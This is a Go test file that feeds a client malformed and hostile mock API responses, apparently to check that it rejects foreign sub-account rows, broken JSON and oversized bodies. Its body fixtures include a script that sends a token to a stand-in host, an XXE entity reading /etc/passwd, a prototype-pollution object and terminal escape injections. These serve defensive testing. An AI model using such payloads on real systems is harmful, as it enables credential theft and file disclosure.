package hostile_test

import (
	"fmt"
	"strings"
)

// listings returns wrong listings.
func listings() []entry {
	mentor, stranger := mentorRow.String(), mentorRow.with("locationId", `"{ELSEWHERE}"`).with("id", `"{STRANGER}"`).with("key", `"foreign"`)
	repeated := func(row string, n int) string { return strings.TrimSuffix(strings.Repeat(row+",", n), ",") }
	var all []entry
	for what, body := range map[string]string{
		"of another sub-account":         `{"associations":[` + stranger.String() + `],"total":1}`,
		"mixed":                          `{"associations":[` + mentor + `,` + stranger.String() + `],"total":2}`,
		"empty":                          `{"associations":[],"total":0}`,
		"empty with a total":             `{"associations":[],"total":5}`,
		"null":                           `{"associations":null}`,
		"no listing":                     `{}`,
		"a string":                       `{"associations":"none"}`,
		"an object":                      `{"associations":{"0":` + mentor + `}}`,
		"rows that are strings":          `{"associations":["a","b"],"total":2}`,
		"rows that are null":             `{"associations":[null,null],"total":2}`,
		"rows within rows":               `{"associations":[[` + mentor + `]],"total":1}`,
		"without platform rows":          `{"associations":[` + mentorRow.with("key", `"another"`).with("id", `"another-id"`).String() + `],"total":1}`,
		"two thousand rows":              `{"associations":[` + repeated(`{"id":"a","locationId":"{HOME}","key":"a"}`, 2_000) + `],"total":2000}`,
		"one row repeated":               `{"associations":[` + repeated(mentor, 100) + `],"total":1000000}`,
		"a negative total":               `{"associations":[` + mentor + `],"total":-1}`,
		"a total out of range":           `{"associations":[` + mentor + `],"total":1e400}`,
		"a total that is an object":      `{"associations":[` + mentor + `],"total":{}}`,
		"two listings":                   `{"associations":[` + stranger.String() + `],"associations":[` + mentor + `],"total":1}`,
		"rows under an upper-case key":   `{"ASSOCIATIONS":[` + stranger.String() + `],"total":1}`,
		"a bare list with a foreign row": `[` + stranger.String() + `]`,
		"rows without a sub-account":     `{"associations":[` + mentorRow.with("locationId", "").with("id", `"unplaced"`).with("key", `"unplaced"`).String() + `],"total":1}`,
		"wrapped in data":                `{"data":{"associations":[` + stranger.String() + `]}}`,
	} {
		all = append(all, entry{kind: "listing of associations", name: what, verbs: onListings, route: listAssociations, status: 200, body: body}, entry{
			kind: "listing of associations, and 404 for a single one", name: what, verbs: []verb{readAssociation, importAssociation, changeAssociation},
			route: listAssociations, status: 200, body: body, gone: true,
		})
	}
	all = append(all, entry{
		kind: "listing of associations, and 404 for a single one", name: "gone everywhere", verbs: []verb{readAssociation}, gone: true,
	})
	return append(all, relationListings(repeated)...)
}

func relationListings(repeated func(string, int) string) []entry {
	row := relationRow.String()
	stranger := relationRow.with("locationId", `"{ELSEWHERE}"`).with("id", `"{STRANGE RELATION}"`).with("associationId", `"{STRANGER}"`).String()
	others := relationRow.with("firstRecordId", `"record-x"`).with("secondRecordId", `"record-y"`).with("id", `"foreign"`).String()
	var all []entry
	for what, body := range map[string]string{
		"of another sub-account":     `{"relations":[` + stranger + `],"total":1}`,
		"of other records":           `{"relations":[` + others + `],"total":1}`,
		"mixed":                      `{"relations":[` + row + `,` + stranger + `],"total":2}`,
		"mixed with other records":   `{"relations":[` + row + `,` + others + `],"total":2}`,
		"empty with a total":         `{"relations":[],"total":5}`,
		"null":                       `{"relations":null,"total":0}`,
		"no listing":                 `{}`,
		"a string":                   `{"relations":"none","total":0}`,
		"rows that are strings":      `{"relations":["a","b"],"total":2}`,
		"rows that are null":         `{"relations":[null],"total":1}`,
		"two thousand rows":          `{"relations":[` + repeated(`{"id":"a","locationId":"{HOME}","associationId":"b","firstRecordId":"record-one","secondRecordId":"c"}`, 2_000) + `],"total":2000}`,
		"one row repeated":           `{"relations":[` + repeated(row, 100) + `],"total":1000000}`,
		"a total out of range":       `{"relations":[` + row + `],"total":1e400}`,
		"rows without a sub-account": `{"relations":[` + relationRow.with("locationId", "").with("id", `"unplaced"`).String() + `],"total":1}`,
		"associations":               `{"associations":[` + mentorRow.String() + `],"total":1}`,
	} {
		all = append(all, entry{kind: "listing of relations", name: what, verbs: onRecords, route: listRelations, status: 200, body: body})
	}
	return all
}

// bodies returns bodies that are not a valid answer to any request.
func bodies() []entry {
	deep := func(n int) string { return strings.Repeat("[", n) + strings.Repeat("]", n) }
	verbs := append(append([]verb{}, onFew...), dataAssociations, dataRelations, listAll)
	var all []entry
	for what, body := range map[string]string{
		"nothing": "", "a space": " ", "null": "null", "true": "true", "a number": "17", "a string": `"text"`, "a list": "[]", "an object": "{}",
		"a byte order mark":        "\ufeff" + mentorRow.String(),
		"UTF-16":                   "{\x00\"\x00i\x00d\x00\"\x00}\x00",
		"invalid UTF-8":            "\xff\xfe\x00\x80",
		"an invalid label":         mentorRow.with("firstObjectLabel", "\"a\xffb\"").String(),
		"HTML":                     "<!doctype html><html><head><title>a\x1b[31m\n::error::b {TOKEN}</title></head></html>",
		"unterminated HTML":        "<html><title>" + strings.Repeat("x ", 5_000),
		"a login page":             `<script>document.location="https://collector.invalid/?{TOKEN}"</script>`,
		"cut":                      mentorRow.String()[:60],
		"two values":               mentorRow.String() + mentorRow.String(),
		"a comment":                "/* a */" + mentorRow.String(),
		"a callback":               "call(" + mentorRow.String() + ")",
		"XML":                      `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`,
		"deep":                     deep(5_000),
		"too deep":                 deep(20_000),
		"deep objects":             strings.Repeat(`{"data":`, 2_000) + "{}" + strings.Repeat("}", 2_000),
		"a megabyte of spaces":     strings.Repeat(" ", 1<<20) + "{}",
		"a megabyte in a string":   `{"message":"` + strings.Repeat("x", 1<<20) + `"}`,
		"many fields":              "{" + strings.Repeat(`"a":1,`, 10_000) + `"b":2}`,
		"one field twice":          `{"id":"{MENTOR}","id":"foreign","locationId":"{HOME}"}`,
		"truncated gzip":           "\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff\xcaH\xcd",
		"the token":                "{TOKEN}",
		"an error with status 200": `{"statusCode":200,"message":"ok","traceId":"a\u001b[2J"}`,
		"a prototype":              `{"__proto__":{"id":"foreign"},"constructor":{"id":"foreign"}}`,
		"deleted false":            `{"deleted":false,"id":"{MENTOR}"}`,
		"deleted another":          `{"deleted":true,"id":"foreign"}`,
	} {
		all = append(all, entry{kind: "body", name: what, verbs: verbs, status: 200, body: body})
	}
	for _, status := range []int{200, 400, 500} {
		all = append(all, entry{
			kind: "body", name: fmt.Sprint("17 megabytes, status ", status), verbs: []verb{readAssociation},
			status: status, body: strings.Repeat("x", 17<<20),
		})
	}
	return all
}
